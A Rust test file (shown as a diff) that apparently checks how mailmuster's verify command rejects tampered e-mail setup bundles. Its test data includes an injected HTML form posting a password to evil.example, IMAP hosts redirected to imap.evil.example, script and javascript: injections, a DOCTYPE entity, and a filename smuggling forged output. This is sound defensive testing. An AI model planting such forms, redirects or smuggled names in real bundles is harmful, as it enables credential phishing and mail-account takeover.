@@ -1,0 +1,401 @@
+//! What an attack on the finished program got past `verify`, each with the answer it must give.
+
+use std::sync::Arc;
+
+use mailmuster::artifact::{Draft, FileName, SignatureFormat};
+use mailmuster::sign::identity::IdentityFiles;
+use mailmuster::sign::verify::profile_content;
+use mailmuster::sign::{Identities, Sealer, Signing, SigningIdentity};
+use openssl::asn1::Asn1Time;
+use openssl::bn::BigNum;
+use openssl::hash::MessageDigest;
+use openssl::pkey::PKey;
+use openssl::rsa::Rsa;
+use openssl::x509::extension::{ExtendedKeyUsage, KeyUsage};
+use openssl::x509::{X509, X509NameBuilder};
+use sha2::{Digest, Sha256};
+use time::macros::datetime;
+
+use super::{BUNDLE, made, reseal, rewrite};
+use crate::support::{ADA, Folder};
+
+const PROFILE: &str = "apple/CenturyLink Mail.mobileconfig";
+const AUTODISCOVER: &str = "android/autodiscover.xml";
+
+/// The test identity, as the program itself uses it.
+fn signing(folder: &Folder) -> Signing {
+    let path = |name: &str| folder.path().join("id").join(name);
+    let files = IdentityFiles::Pem {
+        certificate: path("cert.pem"),
+        key: Some(path("key.pem")),
+        chain: Some(path("ca.pem")),
+    };
+    let now = datetime!(2026-11-23 09:00 UTC);
+    let identity = Arc::new(SigningIdentity::load(&files, &mut |_| Ok(None), [now; 2]).unwrap());
+    let identities = Identities { profiles: Arc::clone(&identity), scripts: identity };
+    Signing { identities: Some(identities), time: now, self_check: true }
+}
+
+/// Signs the folder's manifest as it is now, with the right key.
+fn sign_manifest(folder: &Folder) {
+    let digest = Sha256::digest(folder.read("out/manifest.jsonl")).into();
+    let signature = signing(folder).detached(&digest).unwrap().unwrap();
+    folder.file("out/manifest.jsonl.p7s", signature);
+}
+
+/// Replaces text in one file of the bundle, and its digest in the bundle's manifest.
+fn replace(folder: &Folder, file: &str, from: &str, to: &str) {
+    reseal(folder, |name, content| {
+        if name != file {
+            return content;
+        }
+        let text = String::from_utf8(content).unwrap();
+        assert!(text.contains(from), "{from}");
+        text.replacen(from, to, 1).into_bytes()
+    });
+}
+
+/// R1: the signatures are off and the hosts are others.
+#[test]
+fn stripped_signatures_never_hold() {
+    let folder = made();
+    let evil = ["--unsigned", "--set", "imap.host=imap.evil.example", "--quiet"];
+    folder.run(["generate", "list.csv", "--out", "evil"].iter().chain(&evil)).exits(0);
+    for args in [vec!["--ca", "id/ca.pem"], vec![]] {
+        for path in ["evil", "evil/bundles/ada_centurylink.net.zip"] {
+            let done = folder.run(["verify", path, "--quiet"].iter().chain(&args)).exits(1);
+            assert_eq!(done.stdout.matches(": it is not signed").count(), 2, "{}", done.stdout);
+            assert!(!done.stdout.contains("all hold"), "{}", done.stdout);
+            done.stdout_has("nothing vouches for START-HERE.html, ");
+        }
+    }
+    let sheet = ["--only", "sheet", "--unsigned", "--quiet"];
+    folder.run(["generate", "list.csv", "--out", "sheet"].iter().chain(&sheet)).exits(0);
+    folder
+        .run(["verify", "sheet/bundles/ada_centurylink.net.zip", "--quiet"])
+        .exits(1)
+        .stdout_has("nothing in it is signed: nothing vouches for its files");
+}
+
+/// R7: another certificate of the same authority, meant for something else.
+#[test]
+fn not_every_certificate_of_the_authority_may_sign() {
+    let folder = Folder::new();
+    let key = PKey::from_rsa(Rsa::generate(2048).unwrap()).unwrap();
+    let insider = insider(&key);
+    folder.file("list.csv", ADA).file(
+        "insider.pem",
+        [insider.to_pem().unwrap(), key.private_key_to_pem_pkcs8().unwrap()].concat(),
+    );
+    folder.run(["generate", "list.csv", "--out", "out", "--sign-cert", "insider.pem"]).exits(0);
+    let done = folder.run(["verify", "out", "--ca", "insider.pem", "-q"]).exits(1);
+    assert_eq!(done.stdout.matches("whose certificate is not for e-mail protection").count(), 2);
+    assert_eq!(done.stdout.matches("whose certificate is not for code signing").count(), 1);
+    let digest = Sha256::digest(insider.to_der().unwrap());
+    let digest: String = digest.iter().map(|byte| format!("{byte:02X}")).collect();
+    folder
+        .run(["verify", "out", "--signer", &digest])
+        .exits(0)
+        .stdout_has("all hold for the signer of --signer");
+    let other = ["verify", "out", "--ca", "insider.pem", "--signer", "CN=Somebody Else"];
+    let done = folder.run(other).exits(1);
+    assert_eq!(done.stdout.matches("signed it, whom --signer does not name").count(), 3);
+    folder.run(other.iter().chain(&["--signer", "CN=Insider"])).exits(0);
+    folder
+        .run(["verify", "out", "--signer", "CN=Insider"])
+        .exits(2)
+        .stderr_has("is a subject, which anybody can write into a certificate");
+    folder.run(["verify", "out", "--signer", "Insider"]).exits(2).stderr_has("--signer");
+}
+
+fn insider(key: &PKey<openssl::pkey::Private>) -> X509 {
+    let mut name = X509NameBuilder::new().unwrap();
+    name.append_entry_by_text("CN", "Insider").unwrap();
+    let name = name.build();
+    let mut builder = X509::builder().unwrap();
+    builder.set_version(2).unwrap();
+    let serial_number = BigNum::from_u32(7).unwrap().to_asn1_integer().unwrap();
+    builder.set_serial_number(&serial_number).unwrap();
+    builder.set_subject_name(&name).unwrap();
+    builder.set_issuer_name(&name).unwrap();
+    builder.set_not_before(&Asn1Time::from_unix(1_700_000_000).unwrap()).unwrap();
+    builder.set_not_after(&Asn1Time::from_unix(2_400_000_000).unwrap()).unwrap();
+    builder.set_pubkey(key).unwrap();
+    builder.append_extension(KeyUsage::new().digital_signature().build().unwrap()).unwrap();
+    builder.append_extension(ExtendedKeyUsage::new().client_auth().build().unwrap()).unwrap();
+    builder.sign(key, MessageDigest::sha256()).unwrap();
+    builder.build()
+}
+
+/// R8: the settings are read past what was added.
+#[test]
+fn autodiscover_holds_nothing_but_the_settings() {
+    let evil = "<Protocol><Type>IMAP</Type><Server>imap.evil.example</Server><Port>993</Port>\
+        <LoginName>a</LoginName><SSL>on</SSL><Encryption>SSL</Encryption></Protocol>";
+    for (from, to) in [
+        ("<Protocol>", format!("{evil}<Protocol>")),
+        ("</Account>", format!("{evil}</Account>")),
+        ("<Server>imap", "<Server><![CDATA[]]>imap".to_owned()),
+        ("</Server>", "</Server><Server>imap.evil.example</Server>".to_owned()),
+        ("<Action>settings", "<Action>redirectUrl".to_owned()),
+        ("<Autodiscover", "<!DOCTYPE a [<!ENTITY b \"imap\">]><Autodiscover".to_owned()),
+        ("<Port>", "<!-- --><Port>".to_owned()),
+        ("\n", "\n\n".to_owned()),
+    ] {
+        let folder = made();
+        replace(&folder, AUTODISCOVER, from, &to);
+        let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
+        done.stdout_has(": android/autodiscover.xml: ");
+    }
+}
+
+/// R8: the page keeps its settings and asks for the password.
+#[test]
+fn the_sheet_is_the_one_that_follows_from_the_manifest() {
+    for (from, to) in [
+        ("</body>", "<form action=\"https://evil.example\"><input name=\"p\" /></form></body>"),
+        ("</body>", "<script>alert(1)</script></body>"),
+        ("</body>", "<!-- --></body>"),
+        ("default-src 'none'", "default-src *"),
+    ] {
+        let folder = made();
+        replace(&folder, "START-HERE.html", from, to);
+        let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
+        done.stdout_has(": START-HERE.html: it is not the file that follows from manifest.json");
+    }
+    // words that stand in no signed file: they follow from the manifest, which nothing vouches for
+    let folder = made();
+    replace(&folder, "manifest.json", "\"trust\": \"given\"", "\"trust\": \"development\"");
+    let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
+    done.stdout_has(": START-HERE.html: ");
+    let done = made().run(["verify", BUNDLE, "--ca", "id/ca.pem", "-q"]).exits(0);
+    done.stdout_has("nothing vouches for START-HERE.html, manifest.json\n");
+}
+
+/// A link is a link: a script in the address of a page runs when somebody clicks.
+#[test]
+fn a_provider_that_is_not_built_in_may_not_bring_a_script() {
+    let folder = made();
+    let provider = |page: &str| format!("\"provider\": \"own\",{page}");
+    let card = "\"card\": { \"page\": \"javascript:alert(1)\" }, \"outgoing\"";
+    replace(&folder, "manifest.json", "\"provider\": \"centurylink\",", &provider(""));
+    replace(&folder, "manifest.json", "\"outgoing\"", card);
+    let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
+    done.stdout_has("a page of the provider is not a link");
+    let folder = made();
+    replace(&folder, "manifest.json", "\"outgoing\"", &card.replace("javascript:", "https://"));
+    let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
+    done.stdout_has("it describes the built-in provider `centurylink` anew");
+}
+
+/// R8, another way: a version that nobody knows cannot be made again.
+#[test]
+fn another_version_is_no_way_around() {
+    let folder = made();
+    replace(&folder, "manifest.json", "\"mailmuster 0", "\"mailmuster 99");
+    replace(&folder, "START-HERE.html", "</body>", "<script>alert(1)</script></body>");
+    let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
+    done.stdout_has("whose files `mailmuster 0.1.0` cannot make again: nothing vouches for `START-HERE.html`, `android/autodiscover.xml` and `windows/Set-Mail.cmd`");
+    // in the folder of a run its signature vouches, and the answer says how it was compared
+    let bytes = folder.read(BUNDLE);
+    let manifest = folder.text("out/manifest.jsonl").replace("mailmuster 0", "mailmuster 99");
+    let (before, old) = manifest.split_once("\"sha256\":\"").unwrap();
+    let digest: String = Sha256::digest(&bytes).iter().map(|byte| format!("{byte:02x}")).collect();
+    let (_, after) = old[64..].split_once("\"size\":").unwrap();
+    let after = after.trim_start_matches(|c: char| c.is_ascii_digit());
+    let line = format!("{before}\"sha256\":\"{digest}\",\"size\":{}{after}", bytes.len());
+    folder.file("out/manifest.jsonl", line);
+    sign_manifest(&folder);
+    let done = folder.run(["verify", "out", "--ca", "id/ca.pem"]).exits(0);
+    done.stdout_has("compared by what they say, not made again: bundles of mailmuster 99.1.0\n");
+}
+
+/// R9: two people's bundles change places, and the run is signed again by the right person.
+#[test]
+fn a_bundle_bears_the_name_of_its_address() {
+    let folder = Folder::new();
+    folder.file("list.csv", "email\nada@q.com\nbob@q.com\n");
+    folder.generate("list.csv", &[]).exits(0);
+    let swap = |text: &str, one: &str, other: &str| {
+        text.replace(one, "\0").replace(other, one).replace('\0', other)
+    };
+    let [ada, bob] = ["ada", "bob"].map(|name| format!("out/bundles/{name}_q.com.zip"));
+    let (one, other) = (folder.read(&ada), folder.read(&bob));
+    folder.file(&ada, other).file(&bob, one);
+    let manifest = folder.text("out/manifest.jsonl");
+    folder.file("out/manifest.jsonl", swap(&manifest, "bundles/ada", "bundles/bob"));
+    sign_manifest(&folder);
+    let done = folder.run(["verify", "out", "--ca", "id/ca.pem"]).exits(1);
+    assert_eq!(done.stdout.matches(", which its name does not say").count(), 2, "{}", done.stdout);
+}
+
+/// R10: files that the run did not make, and what is left behind by file managers only by name.
+#[test]
+#[expect(clippy::disallowed_methods, reason = "the test removes its own files")]
+fn no_stranger_lies_beside_the_bundles() {
+    let folder = made();
+    let strangers = [
+        "out/START.exe",
+        "out/bundles/._setup.exe",
+        "out/bundles/._ada_centurylink.net.zip",
+        "out/bundles/desktop.ini",
+        "out/bundles/Thumbs.db",
+        "out/bundles/00/x.zip",
+        "out/bundles/.ada_centurylink.net.zip.part",
+        "out/bundles/x\nout: all hold",
+    ];
+    for file in strangers.iter().filter(|file| cfg!(unix) || !file.contains('\n')) {
+        folder.file(file, "MZ");
+        let done = folder.run(["verify", "out", "--ca", "id/ca.pem", "-q"]).exits(1);
+        assert_eq!(done.stdout.matches("it is not a file of this run").count(), 1, "{file}");
+        assert!(done.stdout.lines().count() == 5, "{}", done.stdout);
+        let top = file.strip_prefix("out/bundles/00/").map_or(*file, |_| "out/bundles/00");
+        let path = folder.path().join(top);
+        let removed =
+            if path.is_dir() { std::fs::remove_dir_all(path) } else { std::fs::remove_file(path) };
+        removed.unwrap();
+    }
+    folder.run(["verify", "out", "--ca", "id/ca.pem"]).exits(0);
+}
+
+/// R12: the right person signed a profile with a foreign payload or key.
+#[test]
+fn a_signed_profile_holds_nothing_foreign() {
+    for (from, to, why) in [
+        (
+            "com.apple.mail.managed",
+            "com.apple.security.root",
+            "it has a payload `com.apple.security.root`, which mailmuster never writes",
+        ),
+        (
+            "<key>PayloadVersion</key>",
+            "<key>PayloadContent</key><data>AAAA</data><key>PayloadVersion</key>",
+            "unknown field `PayloadContent`",
+        ),
+        (
+            "<key>PayloadScope</key>",
+            "<key>PayloadRemovalDisallowed</key><true/><key>PayloadScope</key>",
+            "unknown field `PayloadRemovalDisallowed`",
+        ),
+        ("Removing this profile", "Removing", "it is not the profile that mailmuster writes"),
+        (
+            "<key>PayloadContent</key>",
+            "<!-- --><key>PayloadContent</key>",
+            "it is not the profile that mailmuster writes",
+        ),
+    ] {
+        let folder = made();
+        let mut sealer = Sealer::new(&signing(&folder)).unwrap();
+        reseal(&folder, |name, content| {
+            if name != PROFILE {
+                return content;
+            }
+            let text = String::from_utf8(profile_content(&content).unwrap()).unwrap();
+            assert!(text.contains(from), "{from}");
+            let draft = Draft {
+                file_name: FileName::new(["x"]),
+                content: text.replacen(from, to, 1).into_bytes().into(),
+                signature: SignatureFormat::CmsAttached,
+            };
+            sealer.seal(draft).unwrap().content().to_vec()
+        });
+        folder.file("lone.mobileconfig", folder.in_bundle(BUNDLE, PROFILE));
+        for path in [BUNDLE, "lone.mobileconfig"] {
+            folder.run(["verify", path, "--ca", "id/ca.pem"]).exits(1).stdout_has(why);
+        }
+    }
+    let folder = made();
+    for file in [PROFILE, "windows/Set-MailAccount.ps1"] {
+        folder.file("lone", folder.in_bundle(BUNDLE, file));
+        folder.run(["verify", "lone", "--ca", "id/ca.pem"]).exits(0);
+    }
+}
+
+/// The signature of a run covers every bundle; without it, or with another's, nothing is silent.
+#[test]
+fn the_signature_of_a_run_belongs_to_its_manifest() {
+    let folder = made();
+    folder.run(["verify", "out", "--ca", "id/ca.pem"]).exits(0);
+    let signature = folder.read("out/manifest.jsonl.p7s");
+    // killed between the two renames: the manifest is new, the signature is old
+    folder.file("list.csv", format!("{ADA}bob@centurylink.net,Bob\n"));
+    folder.generate("list.csv", &[]).exits(0);
+    let new = folder.read("out/manifest.jsonl.p7s");
+    folder.file("out/manifest.jsonl.p7s", &signature);
+    let done = folder.run(["verify", "out", "--ca", "id/ca.pem", "-q"]).exits(1);
+    done.stdout_has("manifest.jsonl.p7s: it signs another manifest.jsonl")
+        .stdout_has("run mailmuster generate again")
+        .stdout_has("nothing vouches for START-HERE.html (2 times), manifest.json (2 times), manifest.jsonl, report.csv");
+    // and the run that follows mends it
+    folder.generate("list.csv", &[]).exits(0);
+    assert_eq!(folder.read("out/manifest.jsonl.p7s"), new);
+    folder.run(["verify", "out", "--ca", "id/ca.pem"]).exits(0);
+    folder.file("out/manifest.jsonl.p7s", b"x");
+    folder
+        .run(["verify", "out"])
+        .exits(1)
+        .stdout_has("manifest.jsonl.p7s: the signature is damaged");
+    // a run that does not sign leaves no signature of another
+    folder.run(["generate", "list.csv", "--out", "out", "--unsigned", "--quiet"]).exits(0);
+    assert!(!folder.exists("out/manifest.jsonl.p7s"));
+}
+
+/// A bundle of another run, or of another moment, is none of this one.
+#[test]
+fn a_bundle_is_of_its_run() {
+    let folder = made();
+    let manifest = folder.text("out/manifest.jsonl");
+    folder.file("out/manifest.jsonl", manifest.replacen("09:00:00Z", "09:00:02Z", 1));
+    sign_manifest(&folder);
+    folder
+        .run(["verify", "out", "--ca", "id/ca.pem"])
+        .exits(1)
+        .stdout_has("it is from another run than manifest.jsonl");
+    let folder = made();
+    replace(&folder, "manifest.json", "09:00:00Z", "09:00:02Z");
+    let done = folder.run(["verify", BUNDLE, "--ca", "id/ca.pem"]).exits(1);
+    done.stdout_has("its files do not bear the moment of the run");
+    assert_eq!(done.stdout.matches("it was not signed at the moment").count(), 2);
+    let folder = made();
+    let empty = manifest.lines().next().unwrap();
+    folder.file("out/manifest.jsonl", format!("{empty}\n"));
+    sign_manifest(&folder);
+    let done = folder.run(["verify", "out", "--ca", "id/ca.pem"]).exits(1);
+    done.stdout_has("manifest.jsonl: it names no bundle");
+}
+
+/// What the answer rests on, for programs.
+#[test]
+fn the_event_says_what_the_answer_rests_on() {
+    let folder = made();
+    let summary = |args: &[&str]| -> serde_json::Value {
+        let done = folder.run(["verify", "out", "--json"].iter().chain(args)).exits(0);
+        serde_json::from_str(done.stdout.lines().last().unwrap()).unwrap()
+    };
+    let event = summary(&["--ca", "id/ca.pem"]);
+    assert_eq!(event["authority"], serde_json::json!(["CN=Test Signer CA"]));
+    assert_eq!(event["signers"][0]["subject"], "CN=Test Signer");
+    let signed = serde_json::json!(["manifest.jsonl", "profiles", "scripts"]);
+    assert_eq!(event["signers"][0]["signed"], signed);
+    let unvouched = serde_json::json!([{ "path": "report.csv", "files": 1 }]);
+    assert_eq!(event["unvouched"], unvouched);
+    let sha256 = event["signers"][0]["sha256"].as_str().unwrap().to_owned();
+    let event = summary(&["--signer", &sha256]);
+    assert_eq!(event["authority"], serde_json::Value::Null);
+}
+
+#[test]
+fn a_bundle_in_another_order_or_form_is_found() {
+    let folder = made();
+    rewrite(&folder, |name, content| {
+        let compact = |bytes: &[u8]| {
+            let value: serde_json::Value = serde_json::from_slice(bytes).unwrap();
+            serde_json::to_vec(&value).unwrap()
+        };
+        Some(if name == "manifest.json" { compact(&content) } else { content })
+    });
+    folder
+        .run(["verify", BUNDLE, "--ca", "id/ca.pem"])
+        .exits(1)
+        .stdout_has("manifest.json: it is not written as mailmuster writes it");
+}
